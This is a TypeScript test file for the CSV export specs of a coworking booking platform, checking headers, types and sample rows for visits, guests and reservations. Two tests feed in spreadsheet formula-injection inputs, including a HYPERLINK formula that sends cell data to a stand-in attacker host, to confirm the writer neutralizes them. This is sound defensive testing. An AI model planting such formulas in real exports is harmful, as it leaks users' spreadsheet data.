/**
 * The column specs of the usage lists (contracts/csv/visits.v1.ts, guests.v1.ts, reservations.v1.ts): each held to the
 * partner site's headers (004 §3-3), its column types, and a sample line written through the platform's writer; and
 * what every list spec shares.
 */
import { describe, expect, it } from 'vitest';
import { type GuestVisitRow, guestsCsv } from '../../../contracts/csv/guests.v1';
import { noticeLinesCsv } from '../../../contracts/csv/notice-lines.v1';
import { noticeOffsetsCsv } from '../../../contracts/csv/notice-offsets.v1';
import {
  REQUEST_STATUS_LABELS,
  RESERVATION_STATUS_LABELS,
  type ReservationRow,
  reservationsCsv,
} from '../../../contracts/csv/reservations.v1';
import { salesCsv } from '../../../contracts/csv/sales.v1';
import type { CsvSpec } from '../../../contracts/csv/spec';
import { VISIT_STATUS_LABELS, type VisitRow, visitsCsv } from '../../../contracts/csv/visits.v1';
import { reservationStatuses } from '../../../contracts/http/booking';
import { VISIT_STATUSES } from '../../../contracts/http/visits';
import { csvAnswer, csvRow, csvText } from '../../../lambdas/platform/csv';

/** The file a spec writes for items, as the route's answer would be sent (BOM, CRLF). */
function fileOf<T>(spec: CsvSpec<T>, items: readonly T[]): string {
  return csvText(csvAnswer(spec, (answer: readonly T[]) => answer).lines(items));
}

/** A spec of any rows, for reading its headers and types. */
type AnySpec = CsvSpec<never>;
const headersOf = (spec: AnySpec) => spec.columns.map((c) => c.header);
const typesOf = (spec: AnySpec) => spec.columns.map((c) => c.type);

describe('every list spec', () => {
  const specs: AnySpec[] = [visitsCsv, guestsCsv, reservationsCsv, salesCsv, noticeLinesCsv, noticeOffsetsCsv];

  it('has a file name of its own, ASCII letters, digits and -', () => {
    const names = specs.map((s) => s.fileName);
    expect(new Set(names).size).toBe(names.length);
    for (const name of names) expect(name).toMatch(/^[a-z0-9-]+$/);
  });

  it('has no header twice', () => {
    for (const spec of specs) expect(new Set(headersOf(spec)).size).toBe(spec.columns.length);
  });
});

describe('visitsCsv (v1, 004 §3-3-2)', () => {
  const visit: VisitRow = {
    id: '5b0c3c2e-2d9e-4d55-9a43-000000000001',
    number: 'V-1234-5678-9012',
    companyName: '企業A',
    memberNumber: 'TW000123',
    facilityId: 'tw-shibuya',
    facilityName: 'TIMEWORK渋谷',
    spaceId: 'tw-shibuya-lounge',
    spaceName: 'オープンスペース',
    status: 'out',
    checkedInAt: '2026-11-24T10:53:18+09:00',
    checkedOutAt: '2026-11-24T12:26:50+09:00',
    uses: 2,
    charge: { amount: 1566, tax: 156, total: 1722 },
  };

  it('is headed as the site lists open-space visits, then the fields of the operator Visit it does not show', () => {
    expect(visitsCsv.fileName).toBe('visits');
    expect(headersOf(visitsCsv)).toEqual([
      '利用企業名',
      '施設',
      'スペース',
      'ステータス',
      '利用開始時刻',
      '利用終了時刻',
      '利用番号',
      'TIMEWORK会員番号',
      '利用回数',
      '金額(税別)',
      '消費税',
      '金額(税込)',
    ]);
    expect(typesOf(visitsCsv)).toEqual([
      'text',
      'text',
      'text',
      'text',
      'dateTime',
      'dateTime',
      'text',
      'text',
      'number',
      'number',
      'number',
      'number',
    ]);
  });

  it('writes a visit as the site does (times to the minute, 利用済, money as plain numbers)', () => {
    expect(csvRow(visitsCsv, visit)).toEqual([
      '企業A',
      'TIMEWORK渋谷',
      'オープンスペース',
      '利用済',
      '2026/11/24 10:53',
      '2026/11/24 12:26',
      'V-1234-5678-9012',
      'TW000123',
      2,
      1566,
      156,
      1722,
    ]);
    expect(fileOf(visitsCsv, [visit])).toBe(
      '\uFEFF利用企業名,施設,スペース,ステータス,利用開始時刻,利用終了時刻,利用番号,TIMEWORK会員番号,利用回数,金額(税別),消費税,金額(税込)\r\n' +
        '企業A,TIMEWORK渋谷,オープンスペース,利用済,2026/11/24 10:53,2026/11/24 12:26,V-1234-5678-9012,TW000123,2,1566,156,1722\r\n',
    );
  });

  it('leaves the end and the money empty while the member is in, and the company for an individual plan', () => {
    const open: VisitRow = { ...visit, status: 'in', companyName: null, checkedOutAt: undefined, charge: undefined };
    expect(csvRow(visitsCsv, open)).toEqual([
      null,
      'TIMEWORK渋谷',
      'オープンスペース',
      '利用中',
      '2026/11/24 10:53',
      null,
      'V-1234-5678-9012',
      'TW000123',
      2,
      null,
      null,
      null,
    ]);
  });

  it('names every visit status', () => {
    expect(Object.keys(VISIT_STATUS_LABELS).sort()).toEqual([...VISIT_STATUSES].sort());
    expect(VISIT_STATUS_LABELS).toEqual({ in: '利用中', out: '利用済', closedAtClosing: '利用済(営業終了)' });
  });

  it('neutralizes a company name a spreadsheet would run', () => {
    const hostile = { ...visit, companyName: '=HYPERLINK("https://evil.example/?"&A1,"詳細")' };
    expect(fileOf(visitsCsv, [hostile]).split('\r\n')[1]).toMatch(/^"'=HYPERLINK\(""https:\/\/evil\.example/);
  });
});

describe('guestsCsv (v1, 004 §3-3-3, derived)', () => {
  const guest: GuestVisitRow = {
    visitId: '5b0c3c2e-2d9e-4d55-9a43-000000000001',
    visitNumber: 'V-1234-5678-9012',
    companyName: '企業A',
    memberNumber: 'TW000123',
    facilityId: 'tw-shibuya',
    facilityName: 'TIMEWORK渋谷',
    spaceId: 'tw-shibuya-lounge',
    spaceName: 'オープンスペース',
    guestId: 'g1',
    checkedInAt: '2026-11-26T16:24:00+09:00',
    checkedOutAt: '2026-11-26T16:28:10+09:00',
    charge: { amount: 83, tax: 8, total: 91 },
  };

  it('is headed with the labels of a guest visit on the site, then the member number, guest id and money', () => {
    expect(guestsCsv.fileName).toBe('guests');
    expect(headersOf(guestsCsv)).toEqual([
      '利用企業名',
      '施設名',
      'スペース名',
      'ゲスト入館時刻',
      'ゲスト退館時刻',
      'オープンスペース利用',
      'TIMEWORK会員番号',
      'ゲストID',
      '金額(税別)',
      '消費税',
      '金額(税込)',
    ]);
    expect(typesOf(guestsCsv)).toEqual([
      'text',
      'text',
      'text',
      'dateTime',
      'dateTime',
      'text',
      'text',
      'text',
      'number',
      'number',
      'number',
    ]);
  });

  it('writes a guest with its own times and charge, and the visit it came with', () => {
    expect(fileOf(guestsCsv, [guest])).toBe(
      '\uFEFF利用企業名,施設名,スペース名,ゲスト入館時刻,ゲスト退館時刻,オープンスペース利用,TIMEWORK会員番号,ゲストID,金額(税別),消費税,金額(税込)\r\n' +
        '企業A,TIMEWORK渋谷,オープンスペース,2026/11/26 16:24,2026/11/26 16:28,V-1234-5678-9012,TW000123,g1,83,8,91\r\n',
    );
  });

  it('leaves the exit and the money empty while the guest is in', () => {
    const cells = csvRow(guestsCsv, { ...guest, checkedOutAt: null, charge: null });
    expect(cells.slice(3, 5)).toEqual(['2026/11/26 16:24', null]);
    expect(cells.slice(-3)).toEqual([null, null, null]);
  });
});

describe('reservationsCsv (v1, 004 §3-3-4, §3-3-5 ④)', () => {
  const reservation: ReservationRow = {
    id: '7f0c3c2e-2d9e-4d55-9a43-000000000002',
    number: 'R-2447-7582-6513',
    companyName: '企業A',
    memberNumber: 'TW000123',
    facilityId: 'tw-shibuya',
    facilityName: 'TIMEWORK渋谷',
    spaceId: 'tw-shibuya-room-a',
    spaceName: '会議室A',
    bookingType: 'request',
    status: 'checkedOut',
    start: '2026-12-11T10:15:00+09:00',
    end: '2026-12-11T12:00:00+09:00',
    createdAt: '2026-12-10T14:24:31+09:00',
    updatedAt: '2026-12-11T12:00:05+09:00',
    options: [
      { optionId: 'coffee', name: 'コーヒー(HC)', quantity: 6 },
      { optionId: 'tea', name: '冷茶(平日8:30~18:00)', quantity: 1 },
    ],
    salesLines: [
      { amount: 2100, tax: 210, total: 2310 },
      { amount: 1800, tax: 180, total: 1980 },
      { amount: 200, tax: 20, total: 220 },
    ],
  };

  it('is headed as the site lists reservations (詳細 is a button), then member number, options and sales', () => {
    expect(reservationsCsv.fileName).toBe('reservations');
    expect(headersOf(reservationsCsv)).toEqual([
      '予約番号',
      '利用企業名',
      '施設',
      'スペース名',
      '予約リクエストステータス',
      '予約ステータス',
      '予約開始日',
      '予約終了日',
      '作成日',
      '更新日',
      'TIMEWORK会員番号',
      'オプション',
      '金額(税別)',
      '消費税',
      '金額(税込)',
    ]);
    expect(typesOf(reservationsCsv)).toEqual([
      'text',
      'text',
      'text',
      'text',
      'text',
      'text',
      'dateTime',
      'dateTime',
      'dateTime',
      'dateTime',
      'text',
      'text',
      'number',
      'number',
      'number',
    ]);
  });

  it('writes a reservation with its options in one cell and the sum of its sales lines', () => {
    expect(fileOf(reservationsCsv, [reservation])).toBe(
      '\uFEFF予約番号,利用企業名,施設,スペース名,予約リクエストステータス,予約ステータス,予約開始日,予約終了日,作成日,更新日,TIMEWORK会員番号,オプション,金額(税別),消費税,金額(税込)\r\n' +
        'R-2447-7582-6513,企業A,TIMEWORK渋谷,会議室A,確定,利用済,2026/12/11 10:15,2026/12/11 12:00,2026/12/10 14:24,2026/12/11 12:00,TW000123,コーヒー(HC)×6、冷茶(平日8:30~18:00)×1,4100,410,4510\r\n',
    );
  });

  it('leaves the request status empty for an instant booking, and options and money empty while there are none', () => {
    const instant: ReservationRow = {
      ...reservation,
      bookingType: 'instant',
      status: 'confirmed',
      number: undefined,
      updatedAt: undefined,
      options: [],
      salesLines: [],
    };
    expect(csvRow(reservationsCsv, instant)).toEqual([
      null,
      '企業A',
      'TIMEWORK渋谷',
      '会議室A',
      null,
      '利用前',
      '2026/12/11 10:15',
      '2026/12/11 12:00',
      '2026/12/10 14:24',
      null,
      'TW000123',
      null,
      null,
      null,
      null,
    ]);
  });

  it('writes a request in the site words as §3-3-5 ④ shows them', () => {
    const row = (status: ReservationRow['status']) => csvRow(reservationsCsv, { ...reservation, status }).slice(4, 6);
    expect(row('requested')).toEqual(['仮予約', '利用前']);
    expect(row('rejected')).toEqual(['予約不可', '予約無効']);
    expect(row('confirmed')).toEqual(['確定', '利用前']);
    expect(row('cancelled')).toEqual(['キャンセル', 'キャンセル']);
    expect(row('autoCancelled')).toEqual(['自動キャンセル', '予約無効']);
  });

  it('names every reservation status in both columns', () => {
    expect(Object.keys(REQUEST_STATUS_LABELS).sort()).toEqual([...reservationStatuses].sort());
    expect(Object.keys(RESERVATION_STATUS_LABELS).sort()).toEqual([...reservationStatuses].sort());
  });

  it('neutralizes an option name a spreadsheet would run (the cell starts with it)', () => {
    const hostile = { ...reservation, options: [{ optionId: 'x', name: '@SUM(A1:A9)', quantity: 1 }] };
    expect(csvRow(reservationsCsv, hostile)[11]).toBe("'@SUM(A1:A9)×1");
  });
});
